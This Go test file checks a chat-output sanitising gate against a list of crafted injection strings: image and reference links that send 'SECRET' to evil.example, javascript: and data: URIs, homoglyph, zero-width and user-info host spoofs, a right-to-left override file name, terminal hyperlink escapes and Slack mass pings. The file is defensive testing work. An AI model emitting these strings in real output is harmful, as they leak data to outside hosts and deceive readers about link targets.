package safety

import (
	"strings"
	"testing"

	"github.com/gloss-tutor/gloss/thread"
)

// crafted are ways out and disguises that no public set holds together: as the
// words of a model and as a message, none may reach a reader alive.
var crafted = map[string]string{
	"label is not the target":     "<https://evil.example/x|https://ci.example.com/run/77>",
	"image with data":             "![status](https://evil.example/p.png?d=SECRET)",
	"image by reference":          "![status][p]\n\n[p]: https://evil.example/p.png",
	"reference link":              "[the run][r]\n[r]: https://evil.example/?d=1",
	"reference in angle brackets": "[r]: <https://evil.example/>",
	"shortcut reference":          "[evil]\n\n   [evil]: //evil.example/x",
	"date link":                   "<!date^1392734382^{date}^https://evil.example/?d=1|today>",
	"group":                       "<!subteam^S0OPS|@oncall> please look",
	"person":                      "<@U012AB3CD> <@W012AB3CD|ada>",
	"channel ping":                "<!channel> <!here|here> @channel @here @everyone",
	"ideographic full stop":       "https://evil。example/x",
	"half-width full stop":        "https://evil｡example/x",
	"full-width address":          "ｈｔｔｐｓ：／／evil.example/x",
	"zero-width host":             "https://ev\u200bil.exa\u2060mple/x",
	"soft hyphen host":            "https://ci.exam\u00adple.com.evil.example/run/77",
	"user name as host":           "https://ci.example.com@evil.example/run/77",
	"user name and port":          "https://ci.example.com:443@evil.example/",
	"Cyrillic host":               "https://сi.example.com/run/77",
	"punycode":                    "https://xn--80ak6aa92e.com/",
	"tag characters":              "ok\U000E0068\U000E0074\U000E0074\U000E0070",
	"override file name":          "open invoice\u202egnp.exe",
	"mail":                        "mailto:a@evil.example?body=SECRET",
	"script":                      "[x](javascript:alert(1)) JaVaScRiPt:alert(1)",
	"data":                        "<data:text/html;base64,PHNjcmlwdD4=|open>",
	"app link":                    "<slack://user?team=T1&id=U1|open>",
	"no scheme":                   "//evil.example/x and [a](//evil.example/x)",
	"backslashes":                 `http:\\evil.example\x`,
	"newline in the scheme":       "ht\ntps://evil.example/x https:\n//evil.example",
	"tab in the scheme":           "java\tscript:alert(1) https:\t//evil.example",
	"number as host":              "http://198.51.100.7/ http://0xc6336407/ http://[2001:db8::1]/x",
	"port":                        "https://ci.example.com:8443/run/77",
	"zip as domain":               "download report.zip from https://report.zip/ and www.report.zip",
	"path goes on":                "https://ci.example.com/run/77/../../steal?d=SECRET",
	"fragment":                    "https://ci.example.com/run/77#SECRET",
	"trailing dot":                "https://evil.example./x",
	"nested brackets":             "[[a](https://evil.example/1)](https://evil.example/2)",
	"link in a link":              "<https://ci.example.com/run/77|<https://evil.example|x>>",
	"entities":                    "&lt;!channel&gt; &#x3c;!here&#x3e; &lt;https://evil.example|x&gt;",
	"HTML":                        `<a href="https://evil.example/">log in</a><img src=https://evil.example/p>`,
	"terminal link":               "\x1b]8;;https://evil.example/\x1b\\the run\x1b]8;;\x1b\\",
	"not a character":             "a\xff\xfehttps://evil.example/\x00b",
	"stacked marks":               "Z" + strings.Repeat("\u0335\u0336", 200),
	"half a pair":                 "<!chan<!here>nel> @ch<@U1A>annel",
}

func TestGateCrafted(t *testing.T) {
	for name, s := range crafted {
		t.Run(name, func(t *testing.T) {
			shown := NewGate(deploy).Text(s)
			for what, banned := range map[string]string{"a host": "evil.example", "a ping": "<!", "a person": "<@"} {
				if strings.Contains(shown.String(), banned) {
					t.Errorf("%s is alive in %q", what, shown)
				}
			}
			if f := faults(shown.String(), deploy.Messages[0].Text); f != nil {
				t.Errorf("shows %q in %q", f, shown)
			}
			masked, _ := MaskThread(thread.Thread{Messages: []thread.Message{{ID: "m1", Text: s}}})
			quoted := NewGate(masked).Text(s)
			if f := faults(quoted.String(), masked.Messages[0].Text); f != nil {
				t.Errorf("as a message, shows %q in %q", f, quoted)
			}
		})
	}
}
